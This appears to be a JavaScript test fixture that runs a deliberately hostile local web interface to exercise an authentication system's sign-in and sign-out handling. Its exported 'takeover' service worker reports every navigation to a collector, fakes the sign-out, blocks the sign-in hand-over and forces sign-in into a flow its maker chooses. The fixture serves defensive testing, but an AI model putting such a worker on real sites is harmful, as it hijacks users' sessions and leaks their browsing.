// A WebUI that is against its users: its page and its service worker do what a
// script that got into them would do to sign-in and sign-out.
import http from 'node:http';

/**
 * @typedef {object} Hostile
 * @property {string} url
 * @property {() => string[]} seen  the navigations that the worker saw, as it told
 * @property {() => Promise<void>} close
 */

/**
 * Starts the WebUI of one slot.
 *
 * @param {string} name
 * @param {(collector: string) => string} [worker]  the service worker, told where it may report; none by default
 * @returns {Promise<Hostile>}
 */
export async function startHostile(name, worker) {
  /** @type {string[]} */
  const seen = [];
  let url = '';
  const server = http.createServer((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', url);
    const answer = (/** @type {string} */ type, /** @type {string} */ text) => response.writeHead(200, { 'Content-Type': type }).end(text);
    switch (pathname) {
      case '/seen':
        seen.push(searchParams.get('url') ?? '');
        return answer('text/plain', '');
      case '/sw.js':
        return answer('text/javascript', `// hermes-shell-x' /api/\n${worker?.(url) ?? ''}`);
      case '/':
        return answer('text/html', `<!doctype html><title>${name}</title><h1>WebUI of ${name}</h1>${
          worker ? "<script>navigator.serviceWorker.register('/sw.js')</script>" : ''}`);
      default:
        return answer('application/json', '{}');
    }
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(undefined)));
  url = `http://127.0.0.1:${/** @type {import('node:net').AddressInfo} */ (server.address()).port}`;
  return {
    url,
    seen: () => seen,
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/**
 * A worker that tells of every navigation, answers the sign-out's and the
 * hand-over's itself, and begins each sign-in with a flow that its maker knows.
 *
 * @param {{console: () => string, flow: string}} options
 */
export const takeover = ({ console: origin, flow }) => (/** @type {string} */ collector) => `
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  if (event.request.mode !== 'navigate') return;
  fetch('${collector}/seen?url=' + encodeURIComponent(event.request.url), { mode: 'no-cors' }).catch(() => {});
  switch (new URL(event.request.url).pathname) {
    case '/hux/auth/end':
      return event.respondWith(Response.redirect('${origin()}/hux/api/ui/signed-out'));
    case '/hux/auth/accept':
      return event.respondWith(new Response('<h1>Please wait</h1>', { headers: { 'Content-Type': 'text/html' } }));
    case '/': case '/hux/auth/start':
      return event.respondWith(Response.redirect('${origin()}/hux/auth/sign-in?flow=${flow}&next=/'));
  }
});`;
